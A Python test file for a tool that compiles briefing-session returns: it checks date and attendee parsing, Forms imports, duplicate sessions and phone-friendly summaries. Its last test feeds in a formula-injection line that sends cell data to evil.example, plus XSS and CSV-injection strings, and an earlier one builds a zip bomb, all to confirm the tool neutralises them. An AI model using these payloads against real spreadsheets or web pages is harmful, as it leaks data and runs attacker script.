"""Every return counted right or said to be uncertain: dates as the theme's language writes them,
the number of people from a number or an explicit total, online returns from Microsoft Forms
(.xlsx) and Google Forms (.csv) matched to their briefings, a session returned twice counted
once, every figure traced to its returns, and a summary that reads on a phone and prints on one
page where it fits."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader

from generator.read.dates import day_first, read_date
from generator.sheets.people import count_people
from tests.conftest import PARTNERSHIP_THEME
from tests.test_impact import _fill, _pack

# -- dates: read as the theme's language writes them ---------------------------------------------


def test_a_date_of_numbers_is_read_as_the_language_writes_it():
    assert day_first("en-GB") and day_first("cy") and day_first("en") and not day_first("en-US")
    assert read_date("3/12/2026", day_first=True).day == dt.date(2026, 12, 3)
    assert read_date("3/12/2026", day_first=False).day == dt.date(2026, 3, 12)
    assert read_date("3/12/2026").ambiguous  # with no language: both readings, never a guess
    for impossible in ("31/02/2026", "13/13/2026", "31 February 2026", "2026-02-30"):
        assert read_date(impossible, day_first=True).impossible, impossible


@given(st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2099, 12, 31)))
def test_any_day_written_day_first_is_read_back(day):
    assert read_date(f"{day.day}/{day.month}/{day.year}", day_first=True).day == day
    assert read_date(f"{day.month}/{day.day}/{day.year}", day_first=False).day == day


# -- people: a number, an explicit total, names, or a count to check -------------------------------

@pytest.mark.parametrize(("number", "attendees", "expected"), [
    ("", "Sam, Jo, Priya, Kwame, Ellie + 3 students (8)", 8),  # the issue's: counted as 5 before
    ("", "11 (YOT case managers, 2 police officers, 1 CAMHS nurse)", 11),  # counted as 3 before
    ("", "Ann, Bo and Cy", 3),
    ("", "12", 12),
    ("", "12 practitioners", 12),
    ("", "3 social workers, 2 police officers", 5),
    ("", "Sam, Jo + 3 students", 5),
    ("", "Siân a Dafydd ap Rhys", 2),
    ("", "Sam (chair), Jo", 2),
    ("", "11 people: Sam, Jo and others", 11),
    ("14", "Sam, Jo", 14),  # the number asked for as a number comes first
    ("8 people", "", 8),
])
def test_people_are_counted_from_a_number_or_an_explicit_total(number, attendees, expected):
    count = count_people(number, attendees)
    assert count.sure and count.number == expected


@pytest.mark.parametrize(("number", "attendees"), [
    ("", "the whole team"), ("", "about 10"), ("", "10-12"), ("", "10+"), ("", "social workers"),
    ("", "CAMHS, Police"), ("eight", ""), ("", "Sam, Jo (3), Kim (5)"), ("", "12 (about 10 stayed) total 11"),
    ("", "5000"),
])
def test_a_count_the_words_leave_in_doubt_is_to_check_never_guessed(number, attendees):
    count = count_people(number, attendees)
    assert count.to_check and count.number is None and count.typed


@given(st.lists(st.sampled_from(["Ann", "Bo", "Cy", "Dafydd ap Rhys", "Mary-Anne Smith", "Jo O'Neil", "Siân"]),
                min_size=1, max_size=30), st.sampled_from([", ", "; ", "\n", " and "]))
def test_a_list_of_names_counts_each_name(names, separator):
    count = count_people("", separator.join(names))
    assert count.sure and count.number == len(names)


# -- the issue's two sheets: dates read, people counted, one page --------------------------------

def _two_sheets(tmp_path):
    return _fill(_pack(tmp_path), tmp_path / "north.pdf", {
        0: {"team": "Early Help North", "date": "3/12/2026",
            "attendees": "Sam, Jo, Priya, Kwame, Ellie + 3 students (8)",
            "reflection_1": "We had not thought about how often the same family was seen by different teams.",
            "action_1_what": "Add a line-of-sight check to supervision", "action_1_owner": "Sam",
            "action_1_when": "January 2027"},
        1: {"team": "Youth Offending Team", "date": "10 December 2026",
            "attendees": "11 (YOT case managers, 2 police officers, 1 CAMHS nurse)",
            "reflection_1": "Critical moments are when a young person is arrested.",
            "action_1_what": "Brief the custody suite", "action_1_owner": "Team manager",
            "action_1_when": "31/01/2027"},
    })


def test_the_issue_s_two_sheets_are_counted_right_and_fit_one_page(tmp_path, cli, monkeypatch):
    _two_sheets(tmp_path)
    monkeypatch.chdir(tmp_path)  # as a board officer runs it: in the folder the sheets came back to
    result = cli("impact", "north.pdf", "-o", "r", "--theme", PARTNERSHIP_THEME)
    assert result.exit_code == 0, result.output
    reader = PdfReader(tmp_path / "r" / "impact.pdf")
    text = reader.pages[0].extract_text()
    assert len(reader.pages) == 1  # one page where it fits: no half-empty first page
    assert "Sessions from 3 December 2026 to 10 December 2026" in text
    assert "19 people" in text and "where the number was given" not in text
    assert "north.pdf, page 4" in text and "north.pdf, page" in text  # each return traced to its page
    rows = list(csv.DictReader(io.StringIO((tmp_path / "r" / "impact.csv").read_text(encoding="utf-8"))))
    assert sorted(row["attendee_count"] for row in rows) == ["11", "8"]


def test_an_uncertain_count_and_an_impossible_date_are_named_with_their_sheet(tmp_path, cli):
    filled = _fill(_pack(tmp_path), tmp_path / "filled.pdf", {
        0: {"team": "Early Help", "date": "2026-12-01", "attendees": "the whole team"},
        1: {"team": "Health visitors", "date": "31/02/2026", "people": "9"},
        2: {"team": "School nurses", "date": "2026-12-02", "people": "about 12"},
    })
    result = cli("impact", filled, "-o", tmp_path / "r", "--theme", PARTNERSHIP_THEME)
    assert result.exit_code == 0, result.output
    text = " ".join(page.extract_text() for page in PdfReader(tmp_path / "r" / "impact.pdf").pages)
    flat = " ".join(text.split())
    assert "To check before quoting the figures" in flat
    assert "“the whole team” is not a number the tool can be sure of" in flat
    assert "“about 12” is not a number" in flat
    assert "“31/02/2026” is not a date read as day/month/year" in flat
    assert "9 people where the number was given (1 of the sessions)" in flat  # never a guess added
    assert "filled.pdf, page" in flat
    html = (tmp_path / "r" / "impact.html").read_text(encoding="utf-8")
    assert "the whole team" in html and 'id="to-check"' in html


def test_a_sheet_asks_how_many_took_part_as_a_number(tmp_path):
    fields = PdfReader(_pack(tmp_path)).get_fields()
    people = [name for name in fields if name.endswith("_people")]
    assert len(people) == 3
    assert fields[people[0]]["/TU"] == "The number of people at the meeting, in figures"


# -- online returns ---------------------------------------------------------------------------------

def test_form_questions_are_printed_in_the_theme_s_language_with_the_titles(tmp_path, cli):
    _pack(tmp_path)
    result = cli("impact", "--form-questions", "--briefings", tmp_path / "b", "--theme", PARTNERSHIP_THEME)
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[:7] == ["Which briefing did you discuss?", "Date of the meeting", "Team or service",
                         "Who delivered the briefing?", "How many people took part?", "What did the team reflect on?",
                         "What actions did you agree? One a line: what; who; by when"]
    assert "  Patterns in practice: the national panel's first annual report" in lines
    welsh = tmp_path / "cy.yaml"
    welsh.write_text("organisation: Bwrdd\nlanguage: cy\n", encoding="utf-8")
    result = cli("impact", "--form-questions", "--theme", welsh)
    assert result.stdout.splitlines()[0] == "Pa friffiad wnaethoch chi ei drafod?"


def _questions(cli, tmp_path) -> list[str]:
    return cli("impact", "--form-questions", "--briefings", tmp_path / "b").stdout.splitlines()[:7]


def _workbook(path, rows):
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def test_microsoft_and_google_forms_exports_are_read_and_a_session_returned_twice_counted_once(tmp_path, cli):
    paper = _two_sheets(tmp_path)
    questions = _questions(cli, tmp_path)
    title = "Supporting vulnerable children and families during COVID-19"
    sent = dt.datetime(2026, 12, 14, 9, 30)
    xlsx = _workbook(tmp_path / "responses.xlsx", [
        ["ID", "Start time", "Completion time", "Email", "Name", *questions],
        [1, sent, sent, "anonymous", "", title, dt.datetime(2026, 12, 10), "Youth Offending Team", "", 11,
         "Arrest is a reachable moment.", "Tell the custody sergeants; Team manager; February 2027"],
        [2, sent, sent, "anonymous", "", "Supporting Vulnerable Children and Families during COVID-19 ",
         dt.datetime(2026, 12, 11), "Social care",
         "Ann", "7", "We will ask about arrests.", ""],
        [3, sent, sent, "anonymous", "", "A briefing we never wrote", "2026-12-11", "Police", "", 4, "", ""],
    ])
    google = tmp_path / "google.csv"
    with google.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Timestamp", *[f"{question} " for question in questions]])  # a form tool's trailing space
        writer.writerow(["12/12/2026 10:00:00", title, "12/12/2026", "Health visitors", "", "6", "", ""])
    result = cli("impact", paper, xlsx, google, "-o", tmp_path / "r", "--briefings", tmp_path / "b",
                 "--theme", PARTNERSHIP_THEME)
    assert result.exit_code == 0, result.output
    assert "read 4 returns: 2 record sheets and 2 online" in result.stdout
    assert "1 session returned twice, counted once" in result.stdout
    assert "responses.xlsx:4:1: this response names the briefing 'A briefing we never wrote'" in result.output
    assert "responses.xlsx, row 2: the same session as" in result.output
    rows = list(csv.DictReader(io.StringIO((tmp_path / "r" / "impact.csv").read_text(encoding="utf-8"))))
    yot = next(row for row in rows if row["team"] == "Youth Offending Team")
    assert "Arrest is a reachable moment." in yot["reflections"] and "Critical moments" in yot["reflections"]
    assert "Tell the custody sergeants | Team manager | February 2027" in yot["actions"]
    assert "north.pdf, page" in yot["source"] and "responses.xlsx, row 2" in yot["source"]
    assert next(row for row in rows if row["team"] == "Health visitors")["date"] == "12/12/2026"
    text = " ".join(" ".join(page.extract_text() for page in PdfReader(tmp_path / "r" / "impact.pdf").pages).split())
    assert "4 returns came back for 2 briefings" in text and "32 people" in text  # 8 + 11 + 7 + 6
    assert "returned “Supporting vulnerable children and families during COVID-19” for 10 December 2026 twice" \
        in text


def test_an_online_date_after_the_response_was_sent_is_to_check(tmp_path, cli):
    _pack(tmp_path)
    questions = _questions(cli, tmp_path)
    xlsx = _workbook(tmp_path / "r.xlsx", [
        ["ID", "Completion time", *questions],
        [1, dt.datetime(2026, 3, 13), "It was hard to escape: children at risk from criminal exploitation",
         "3/12/2026", "Early Help", "", 5, "", ""],
    ])  # typed month first (12 March) where en-GB reads 3 December: after the response was sent
    result = cli("impact", xlsx, "-o", tmp_path / "out", "--briefings", tmp_path / "b", "--theme", PARTNERSHIP_THEME)
    assert result.exit_code == 0, result.output
    html = (tmp_path / "out" / "impact.html").read_text(encoding="utf-8")
    assert "read as 3 December 2026, is after the response was sent (13 March 2026)" in html


def test_an_export_without_the_briefing_question_or_without_briefings_is_named(tmp_path, cli):
    _pack(tmp_path)
    (tmp_path / "other.csv").write_text("Timestamp,Favourite colour\n1,blue\n", encoding="utf-8")
    result = cli("impact", tmp_path / "other.csv", "-o", tmp_path / "r", "--briefings", tmp_path / "b")
    assert result.exit_code == 1 and "the question that names the briefing" in result.output
    questions = _questions(cli, tmp_path)
    (tmp_path / "form.csv").write_text(",".join(["Timestamp", *questions[:3]]) + "\n1,X,2026-12-01,Team\n",
                                       encoding="utf-8")
    result = cli("impact", tmp_path / "form.csv", "-o", tmp_path / "r")
    assert result.exit_code == 1 and "the briefings these responses are about are not known" in result.output


def test_a_workbook_that_unpacks_to_far_more_than_it_weighs_is_refused_before_reading(tmp_path, cli):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * 210_000_000)
    assert bomb.stat().st_size < 1_000_000
    result = cli("impact", bomb, "-o", tmp_path / "r")
    assert result.exit_code == 1 and "unpacks to 210,000,000 bytes" in result.output
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 not really")
    result = cli("impact", tmp_path / "broken.xlsx", "-o", tmp_path / "r")
    assert result.exit_code == 1 and "is not a workbook that can be read" in result.output
    assert "Traceback" not in result.output


def test_last_year_s_log_without_the_people_column_is_read(tmp_path, cli):
    from generator.sheets.returned import COLUMNS

    earlier = [column for column in COLUMNS if column != "people"]
    row = {"briefing_id": "b1", "briefing_title": "A briefing", "version": "0123456789ab", "team": "Team",
           "date": "2021-02-01", "attendees": "Ann, Bo", "attendee_count": "2", "source": "x.pdf"}
    with (tmp_path / "old.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([earlier, [row.get(column, "") for column in earlier]])
    result = cli("impact", tmp_path / "old.csv", "-o", tmp_path / "r")
    assert result.exit_code == 0, result.output
    assert "read 1 record sheet" in result.output


# -- on a phone ------------------------------------------------------------------------------------

@pytest.mark.parametrize("width", [390, 320])
def test_the_summary_reads_on_a_phone_with_no_sideways_scrolling_and_axe_clean(tmp_path, cli, browser, width):
    from generator.audit.browser import axe

    cli("impact", _two_sheets(tmp_path), "-o", tmp_path / "r", "--theme", PARTNERSHIP_THEME)
    page = browser.new_page(viewport={"width": width, "height": 800})
    try:
        page.goto((tmp_path / "r" / "impact.html").as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        violations, _, _, _ = axe(page)
        labels = page.evaluate("[...document.querySelectorAll('table.stack td')].map(td => "
                               "getComputedStyle(td, '::before').content)")
        roles = page.evaluate("[...document.querySelectorAll('table')].map(t => t.getAttribute('role'))")
    finally:
        page.close()
    assert violations == []
    assert '"Where it came from: "' in labels  # each cell says its column, as a card on a phone
    assert set(roles) == {"table"}  # and the tables stay tables for a screen reader


def test_a_number_mended_in_the_log_is_taken_when_the_log_is_given_back(tmp_path, cli):
    filled = _fill(_pack(tmp_path), tmp_path / "filled.pdf", {0: {"team": "Early Help", "date": "2026-12-01",
                                                                  "attendees": "the whole team"}})
    cli("impact", filled, "-o", tmp_path / "first", "--theme", PARTNERSHIP_THEME)
    log = tmp_path / "first" / "impact.csv"
    rows = list(csv.DictReader(io.StringIO(log.read_text(encoding="utf-8"))))
    assert rows[0]["attendee_count"] == "" and rows[0]["people"] == ""
    rows[0]["people"] = "14"  # the officer rang the team and mended it
    mended = tmp_path / "mended.csv"
    with mended.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = cli("impact", filled, mended, "-o", tmp_path / "second", "--theme", PARTNERSHIP_THEME)
    assert result.exit_code == 0 and "given twice, counted once" in result.output, result.output
    text = " ".join(PdfReader(tmp_path / "second" / "impact.pdf").pages[0].extract_text().split())
    assert "14 people" in text and "To check" not in text


def test_what_an_online_form_returns_is_text_wherever_it_goes(tmp_path, cli):
    _pack(tmp_path)
    questions = _questions(cli, tmp_path)
    google = tmp_path / "google.csv"
    with google.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Timestamp", *questions], [
            "2026-12-12 10:00", "It was hard to escape: children at risk from criminal exploitation", "2026-12-12",
            '=HYPERLINK("https://evil.example/?d="&A2,"x")', "<img src=x onerror=alert(1)>", "4",
            "<script>alert(1)</script>", "@SUM(1); +cmd; -2+3"]])
    result = cli("impact", google, "-o", tmp_path / "r", "--briefings", tmp_path / "b")
    assert result.exit_code == 0, result.output
    log = (tmp_path / "r" / "impact.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in log and "'@SUM(1) | +cmd | -2+3" in log
    html = (tmp_path / "r" / "impact.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "&lt;script&gt;" in html and "<img src=x" not in html
